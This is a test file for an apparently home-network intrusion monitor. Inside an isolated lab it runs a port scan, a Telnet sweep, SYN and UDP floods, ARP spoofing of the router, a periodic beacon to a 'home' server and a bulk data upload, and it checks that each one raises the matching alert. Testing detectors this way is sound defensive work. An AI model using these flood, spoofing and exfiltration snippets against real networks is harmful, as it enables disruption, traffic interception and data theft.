@@ -1,0 +1,169 @@
+/** Attacks from a device of the lab, with real tools and real packets: each is told, under its name, and soon. */
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:net';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { afterEach, beforeEach, describe, expect, test } from 'vitest';
+import { type Endpoint, parseIpv4, parseMac } from '../../src/simulator/wire/address.ts';
+import { arpReply } from '../../src/simulator/wire/arp.ts';
+import { Flag, tcpFrame } from '../../src/simulator/wire/tcp.ts';
+import { writeCapture } from '../capture/write-capture.ts';
+import { createLab, type Lab, type Line, noLab, startMonitor, type Watcher } from './lab.ts';
+
+/** Each is run inside as `node -e PROGRAM ARGUMENTS…`, and bounded in count and time. */
+const TELNET_SWEEP = `
+  const net = require('node:net');
+  let next = 1;
+  const timer = setInterval(() => {
+    if (next >= process.argv.length) process.exit();
+    net.connect({ host: process.argv[next++], port: 23 }).on('error', () => {});
+  }, 100);`;
+const UDP_FLOOD = `
+  const socket = require('node:dgram').createSocket('udp4');
+  const [address, count] = process.argv.slice(1);
+  let sent = 0;
+  const timer = setInterval(() => {
+    for (let i = 0; i < 10; i++) socket.send('x'.repeat(20), 9, address, () => {});
+    if ((sent += 10) >= Number(count)) { clearInterval(timer); socket.close(); }
+  }, 10);`;
+/** A word every 300 ms, to which this machine says that nobody listens there. */
+const CHAT = `
+  const socket = require('node:dgram').createSocket('udp4').on('error', () => {});
+  const [address, count] = process.argv.slice(1);
+  let said = 0;
+  const timer = setInterval(() => {
+    socket.send('x', 9, address, () => {});
+    if (++said >= Number(count)) { clearInterval(timer); socket.close(); }
+  }, 300);`;
+const BEACON = `
+  const net = require('node:net');
+  const [address, port, count] = process.argv.slice(1);
+  let called = 0;
+  const call = () => {
+    const socket = net.connect({ host: address, port: Number(port) }, () => socket.end('any orders? '.repeat(4)));
+    socket.on('error', () => {}).resume();
+    if (++called >= Number(count)) clearInterval(timer);
+  };
+  const timer = setInterval(call, 1_000);`;
+const UPLOAD = `
+  const net = require('node:net');
+  const [address, port, megabytes] = process.argv.slice(1);
+  const chunk = Buffer.alloc(1 << 20, 'secret');
+  const socket = net.connect({ host: address, port: Number(port) });
+  let sent = 0;
+  const send = () => {
+    while (sent < Number(megabytes)) { sent++; if (!socket.write(chunk)) return socket.once('drain', send); }
+    socket.end();
+  };
+  socket.once('connect', send).resume();`;
+
+const title = `attacks in a network of its own${noLab === null ? '' : ` (not here: ${noLab})`}`;
+
+describe.skipIf(noLab !== null)(title, () => {
+  let lab: Lab;
+  let folder: string;
+  let watcher: Watcher;
+
+  beforeEach(async () => {
+    folder = mkdtempSync(path.join(tmpdir(), 'guardian-attack-'));
+    lab = createLab();
+    watcher = await startMonitor(lab, '--learn-hours', '0');
+  });
+  afterEach(async () => {
+    await watcher.stop();
+    lab.remove();
+    rmSync(folder, { recursive: true });
+  });
+
+  /** The attack is told once as that kind and within that time, and of nobody but the one who is to be named. */
+  async function expectAlert(wanted: string, attack: Promise<unknown>, withinSeconds: number, named = lab.inside) {
+    const fits = ({ type, kind }: Line): boolean => type === 'alert' && kind === wanted;
+    const { line } = await watcher.next(fits, withinSeconds);
+    expect(line.sentence).toMatch(/\d/);
+    expect(line.advice.length).toBeGreaterThan(0);
+    await attack;
+    await watcher.stop();
+    const alerts = watcher.lines.filter(({ type, kind }) => type === 'alert' && kind !== 'new-device');
+    expect(alerts.filter(({ hosts }) => !hosts.includes(named)).map(({ sentence }) => sentence)).toEqual([]);
+    expect(alerts.filter(({ updated, kind }) => !updated && kind === wanted)).toHaveLength(1);
+    return line;
+  }
+
+  /** A server of this machine, which is the Internet to the device. */
+  async function serve(): Promise<{ port: string; close: () => void }> {
+    const server = createServer((socket) => socket.on('error', () => {}).resume());
+    await new Promise<void>((resolve) => server.listen(0, lab.outside, resolve));
+    return { port: String((server.address() as { port: number }).port), close: () => server.close() };
+  }
+
+  /** The device and this machine, as its frames name them. */
+  function ends(): { device: Endpoint; router: Endpoint } {
+    const routerMac = readFileSync(`/sys/class/net/${lab.interface}/address`, 'utf8').trim();
+    const endpoint = (ip: string, mac: string): Endpoint => ({
+      ...{ ip: parseIpv4(ip), mac: parseMac(mac), ttl: 64, padded: false },
+      nextId: () => 0,
+    });
+    return { device: endpoint(lab.inside, lab.mac()), router: endpoint(lab.address, routerMac) };
+  }
+
+  function capture(frames: Uint8Array[]): string {
+    const file = path.join(folder, 'frames.pcap');
+    writeFileSync(file, writeCapture(frames.map((bytes, i) => ({ ts: i, bytes }))).bytes);
+    return file;
+  }
+
+  test('nmap looks for open ports', async () => {
+    await expectAlert('scan', lab.run('nmap', '-n', '-Pn', '-sS', '-p', '1-400', lab.address), 10);
+  });
+
+  test('somebody looks for Telnet in the whole network', async () => {
+    const line = await expectAlert('scan', lab.run(process.execPath, '-e', TELNET_SWEEP, ...lab.addGhosts(60)), 30);
+    expect(line.sentence).toMatch(/tried \d+ addresses/);
+  });
+
+  test('SYN after SYN', async () => {
+    const { device, router } = ends();
+    const syns = Array.from({ length: 4_000 }, (_, i) =>
+      tcpFrame({
+        ...{ from: device, fromPort: 1024 + ((i * 7) % 60_000), to: router, toPort: 80 },
+        ...{ seq: i, ack: 0, flags: Flag.SYN, window: 1024 },
+      }),
+    );
+    await expectAlert('flood', lab.replay(capture(syns), '--pps', '1000'), 10);
+  });
+
+  test('datagram after datagram', async () => {
+    await expectAlert('flood', lab.run(process.execPath, '-e', UDP_FLOOD, lab.address, '6000'), 10);
+  });
+
+  test('somebody says that the router is here', async () => {
+    const { device, router } = ends();
+    // The real one speaks meanwhile.
+    const chat = lab.run(process.execPath, '-e', CHAT, lab.address, '25');
+    await watcher.next(({ type }) => type === 'device', 5);
+    const lie = { mac: parseMac('02:00:00:00:66:66'), ip: router.ip };
+    await expectAlert(
+      'spoofing',
+      Promise.all([chat, lab.replay(capture(Array(8).fill(arpReply(lie, device))), '--pps', '2')]),
+      15,
+      lab.address,
+    );
+  });
+
+  test('a device calls home like a clock', async () => {
+    const server = await serve();
+    await expectAlert('beacon', lab.run(process.execPath, '-e', BEACON, lab.outside, server.port, '24'), 55);
+    server.close();
+  }, 70_000);
+
+  test('a device sends away far more than a device does', async () => {
+    const server = await serve();
+    const line = await expectAlert(
+      'exfiltration',
+      lab.run(process.execPath, '-e', UPLOAD, lab.outside, server.port, '260'),
+      45,
+    );
+    expect(line.hosts).toEqual([lab.inside, lab.outside]);
+    server.close();
+  });
+});
